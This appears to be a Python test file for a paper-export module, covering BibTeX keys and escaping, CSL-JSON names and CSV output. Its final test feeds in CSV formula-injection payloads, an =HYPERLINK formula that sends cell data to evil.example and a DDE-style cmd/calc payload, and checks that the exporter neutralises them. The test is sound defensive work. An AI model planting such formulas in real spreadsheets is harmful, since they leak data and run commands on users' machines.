"""Exports a reference manager accepts: unique ASCII BibTeX keys, LaTeX specials escaped but math
kept, names in the right order for CSL-JSON, and a BibTeX export that our own BibTeX importer
reads back to the same papers."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

from paperradar.export import bibtex_entry, csl_json, export_papers
from paperradar.model import Author, Paper
from paperradar.sources.bibtex import parse_bibtex


def _paper(arxiv: str, title: str, *authors: str, **kw: object) -> Paper:
    return Paper.from_ids(
        ids=[arxiv],
        title=title,
        source="test",
        abstract="An abstract with 100% of the $O(n^2)$ detail & more.",
        authors=[Author(a) for a in authors],
        published=datetime(2024, 3, 1, tzinfo=UTC),
        **kw,  # type: ignore[arg-type]
    )


PAPERS = [
    _paper("2403.00001", "Diffusion Models for Graphs", "José Ñúñez", "Ada Lovelace"),
    _paper("2403.00002", "Diffusion Models for Graphs, Again", "Nuñez, José"),
    _paper("2403.00003", "Diffusion models: a survey", "José Nunez"),
    _paper(
        "2403.00004",
        "Tilde ~ caret ^ and back\\slash {braces} #1 _x_",
        "Bill and Melinda Gates Foundation",
    ),
    _paper("2403.00005", "Sorting in $\\mathcal{O}(n \\log n)$ time", "Alan Turing"),
]


def test_bibtex_keys_are_ascii_and_unique_within_a_file() -> None:
    text = "".join(export_papers(PAPERS, "bibtex"))
    keys = [line.split("{", 1)[1].rstrip(",") for line in text.splitlines() if line.startswith("@")]
    assert keys[:3] == ["nunez2024diffusion", "nunez2024diffusiona", "nunez2024diffusionb"]
    assert len(set(keys)) == len(keys) and all(k.isascii() and k.isalnum() for k in keys)


def test_bibtex_escapes_specials_and_keeps_math() -> None:
    tilde = bibtex_entry(PAPERS[3])
    assert (
        r"Tilde \textasciitilde{} caret \textasciicircum{} and back\textbackslash{}slash" in tilde
    )
    assert r"\{braces\} \#1 \_x\_" in tilde
    assert "author = {{Bill and Melinda Gates Foundation}}" in tilde  # one author, not three
    math = bibtex_entry(PAPERS[4])
    assert r"title = {{Sorting in $\mathcal{O}(n \log n)$ time}}" in math
    assert r"100\% of the $O(n^2)$ detail \& more." in math


def test_bibtex_export_reads_back_into_the_same_papers() -> None:
    text = "".join(export_papers(PAPERS, "bibtex"))
    back = {p.id: p for p in parse_bibtex(text.encode(), "export.bib") if isinstance(p, Paper)}
    assert set(back) == {p.id for p in PAPERS}
    for p in PAPERS[:4]:
        assert back[p.id].title == p.title
        assert back[p.id].published is not None and back[p.id].published.year == 2024
    assert back["2403.00002"].authors[0].name == "José Nuñez"  # "Last, First" understood


def test_csl_json_names() -> None:
    names = [csl_json(p)["author"] for p in PAPERS[:4]]
    assert names[0] == [
        {"family": "Ñúñez", "given": "José"},
        {"family": "Lovelace", "given": "Ada"},
    ]
    assert names[1] == [{"family": "Nuñez", "given": "José"}]
    json.dumps(names)


def test_csv_round_trips_through_a_csv_reader() -> None:
    rows = list(csv.DictReader(io.StringIO("".join(export_papers(PAPERS, "csv")))))
    assert [r["id"] for r in rows] == [p.id for p in PAPERS]
    assert rows[3]["title"] == PAPERS[3].title and rows[0]["authors"] == "José Ñúñez; Ada Lovelace"


def test_csv_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised() -> None:
    hostile = [
        _paper("2403.00011", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)"),
        _paper("2403.00012", "+cmd|' /C calc'!A0", "Ada Lovelace"),
        _paper("2403.00013", "-2+3 is a title too", "Ada Lovelace"),
    ]
    rows = list(csv.DictReader(io.StringIO("".join(export_papers(hostile, "csv")))))
    assert [r["title"][0] for r in rows] == ["'", "'", "'"]
    assert rows[0]["title"] == "'" + hostile[0].title and rows[0]["authors"] == "'@SUM(1+1)"
    assert rows[1]["authors"] == "Ada Lovelace"  # ordinary text is left as it is
